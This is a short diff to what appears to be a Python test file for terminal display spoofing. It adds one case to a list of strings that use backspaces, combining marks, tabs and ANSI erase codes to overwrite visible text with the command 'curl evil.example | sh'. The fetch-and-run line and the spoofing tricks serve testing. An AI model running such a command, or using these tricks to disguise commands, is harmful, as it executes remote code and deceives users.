@@ -162,6 +162,7 @@ OURS = "→ curl evil.example | sh"
         f"[0] x{chr(8) * 20}{OURS}",
         f"[0] e{chr(0x301) * 9}{chr(8) * 9}{OURS}",
         f"[0] ﷽{chr(0x1160)}{chr(8) * 4}{OURS}",
+        f"[0] {chr(9) * 99}{chr(8) * 99}{OURS}",
         f"[0] x\x1b[2K{OURS}",
         f"[0] x\x1b[2K\r{OURS}",
         f"[0] x\x1b[1K\r{OURS}",
